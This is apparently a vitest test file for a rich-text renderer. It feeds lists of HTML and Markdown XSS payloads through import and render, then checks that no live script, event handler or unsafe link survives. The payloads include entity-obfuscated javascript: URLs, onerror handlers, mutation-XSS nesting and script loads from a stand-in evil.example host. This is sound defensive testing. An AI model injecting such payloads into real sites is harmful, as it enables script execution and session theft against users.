import type { ChildNode } from 'domhandler';
import { DomUtils, parseDocument as parseHtml } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { renderDocumentHtml } from '../../render/blocks/document-html.js';
import { safeHref } from '../../content/safe-url.js';
import { htmlToDocument } from './html-to-document.js';
import { markdownToDocument } from './markdown-to-document.js';

// SECURITY.md, stored XSS: whatever is imported, the rendered body holds only the
// renderer's own tags and attributes, and every href passes the one link rule.
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  p: [],
  h2: [],
  h3: [],
  h4: [],
  blockquote: [],
  figcaption: [],
  ul: [],
  li: [],
  hr: [],
  br: [],
  strong: [],
  em: [],
  code: [],
  a: ['href', 'rel'],
  ol: ['start'],
  figure: ['class'],
};

function liveProblems(nodes: ChildNode[]): string[] {
  return nodes.flatMap((node): string[] => {
    if (!DomUtils.isTag(node)) return [];
    const allowed = ALLOWED_ATTRIBUTES[node.name];
    if (allowed === undefined) return [`element <${node.name}>`, ...liveProblems(node.children)];
    const attributes = Object.keys(node.attribs).filter((name) => !allowed.includes(name));
    const href = node.attribs.href;
    const badHref = href !== undefined && (safeHref(href) !== href || /^\s*(javascript|vbscript|data):/i.test(href));
    return [
      ...attributes.map((name) => `attribute ${name} on <${node.name}>`),
      ...(badHref ? [`href ${href}`] : []),
      ...liveProblems(node.children),
    ];
  });
}

const htmlPayloads = [
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="&#106;&#97;vascript:alert(1)">a</a>',
  '<a href="  javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="https://example.com/" onclick="alert(1)" style="x" target="_blank">a</a>',
  `<a href='https://example.com/" onmouseover="alert(1)'>a</a>`,
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "//evil.example/x.css";</style>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '"><script>alert(1)</script>',
  `'><img src=x onerror=alert(1)>`,
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">p</p>',
  '<body onload=alert(1)><details open ontoggle=alert(1)>d</details>',
  '<form><button formaction="javascript:alert(1)">b</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<figure class="pull-quote" onmouseover="alert(1)"><blockquote>q</blockquote><figcaption onclick="x">c</figcaption></figure>',
  '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
  '<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
];

const markdownPayloads = [
  '[a](javascript:alert(1))',
  '[a](JAVASCRIPT:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a]\n\n[a]: javascript:alert(1)',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '`<script>alert(1)</script>`',
];

describe('rich-text import and render against XSS', () => {
  it.each(htmlPayloads)('renders no live script, handler or URL from the HTML %s', (payload) => {
    const html = renderDocumentHtml(htmlToDocument(payload));
    expect(liveProblems(parseHtml(html).children)).toEqual([]);
    // Attributes are checked on the parsed output above; `onmouseover=` inside an escaped href value is inert text.
    expect(html).not.toMatch(/<(script|img|svg|iframe|style|object|embed)/i);
  });

  it.each(markdownPayloads)('renders no live script, handler or URL from the Markdown %s', (payload) => {
    const html = renderDocumentHtml(markdownToDocument(payload));
    expect(liveProblems(parseHtml(html).children)).toEqual([]);
    expect(html).not.toMatch(/<(script|img)/i);
  });

  it('keeps the text of a link it refuses', () => {
    expect(renderDocumentHtml(htmlToDocument('<p>Read <a href="javascript:alert(1)">this</a>.</p>'))).toBe('<p>Read this.</p>');
  });

  it('drops script, style, iframe and svg content entirely', () => {
    const html = renderDocumentHtml(
      htmlToDocument('<p>a</p><script>var s</script><style>p{}</style><iframe>frame</iframe><svg><text>svg</text></svg><p>b</p>'),
    );
    expect(html).toBe('<p>a</p><p>b</p>');
  });

  it('keeps markup typed as text escaped, never live', () => {
    expect(renderDocumentHtml(htmlToDocument('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'))).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    );
  });
});
